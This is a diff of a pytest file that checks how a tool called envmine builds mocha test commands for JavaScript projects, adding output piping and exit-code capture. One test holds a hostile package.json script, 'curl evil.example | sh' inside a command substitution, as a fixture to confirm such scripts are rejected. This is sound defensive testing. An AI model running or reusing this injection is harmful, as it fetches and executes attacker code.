@@ -13,7 +13,7 @@ from envmine.languages import load_language
 from envmine.languages.hooks import node
 from envmine.languages.hooks.node import script_args
 
-MOCHA_REPORT = "--reporter json --reporter-option output=/tmp/envmine-results/mocha.json"
+MOCHA_REPORT = "--exit --reporter json --reporter-option output=/tmp/envmine-results/mocha.json;"
 
 
 @pytest.mark.parametrize(("scripts", "args"), [
@@ -57,14 +57,14 @@ def test_the_mocha_test_command_carries_the_scripts_arguments(language):
     manifest = {"scripts": {"test": "nyc mocha --throw-deprecation test/*.test.js"}, "devDependencies": {"mocha": "^10"}}
     plan = plan_language(load_language(language), ["package.json"], {"package.json": json.dumps(manifest)})
     assert plan.framework == "mocha"
-    assert plan.test_command.startswith(f"npx --no-install mocha --throw-deprecation test/*.test.js {MOCHA_REPORT} ")
+    assert plan.test_command.startswith(f"{{ npx --no-install mocha --throw-deprecation test/*.test.js {MOCHA_REPORT} ")
     assert plan.facts()["mocha_args"] == "--throw-deprecation test/*.test.js"
 
 
 def test_an_unsafe_script_leaves_mocha_to_its_own_defaults():
     manifest = {"scripts": {"test": "mocha test/$(curl evil.example | sh)"}, "devDependencies": {"mocha": "^10"}}
     plan = plan_language(load_language("javascript"), ["package.json"], {"package.json": json.dumps(manifest)})
-    assert plan.test_command.startswith(f"npx --no-install mocha  {MOCHA_REPORT} ")
+    assert plan.test_command.startswith(f"{{ npx --no-install mocha  {MOCHA_REPORT} ")
     assert "mocha_args" not in plan.facts()
 
 
@@ -78,9 +78,9 @@ def test_mocha_before_9_has_its_stdout_kept_as_the_report():
     # mocha 8 ignores `--reporter-option output=` and prints the JSON among the tests' output
     manifest = {"scripts": {"test": "mocha"}, "devDependencies": {"mocha": "^8.4.0"}}
     plan = plan_language(load_language("javascript"), ["package.json"], {"package.json": json.dumps(manifest)})
-    assert ("> /tmp/envmine-mocha.out; rc=$?; [ -s /tmp/envmine-results/mocha.json ] || "
-            "cp /tmp/envmine-mocha.out /tmp/envmine-results/mocha.json;") in plan.test_command
-    assert plan.test_command.endswith("exit $rc")
+    assert ("echo $? > /tmp/envmine-mocha.rc; } | tee /tmp/envmine-mocha.out; [ -s /tmp/envmine-results/mocha.json ] "
+            "|| cp /tmp/envmine-mocha.out /tmp/envmine-results/mocha.json;") in plan.test_command
+    assert plan.test_command.endswith('exit "$(cat /tmp/envmine-mocha.rc)"')
 
 
 @pytest.mark.parametrize("language", ["javascript", "typescript"])
@@ -90,10 +90,10 @@ def test_the_projects_pretest_runs_before_the_tests_as_npm_test_would(language):
                             "test": "c8 mocha ./test/*.mjs"}, "devDependencies": {"mocha": "^10"}}
     plan = plan_language(load_language(language), ["package.json"], {"package.json": json.dumps(manifest)})
     assert plan.test_command.startswith("npm run pretest > /tmp/envmine-pretest.log 2>&1 || "
-                                        "tail -n 30 /tmp/envmine-pretest.log; npx --no-install mocha ./test/*.mjs ")
+                                        "tail -n 30 /tmp/envmine-pretest.log; { npx --no-install mocha ./test/*.mjs ")
     without = plan_language(load_language(language), ["package.json"],
                             {"package.json": json.dumps({**manifest, "scripts": {"test": "mocha"}})})
-    assert without.test_command.startswith("npx --no-install mocha ")
+    assert without.test_command.startswith("{ npx --no-install mocha ")
 
 
 @pytest.mark.parametrize(("scripts", "framework"), [
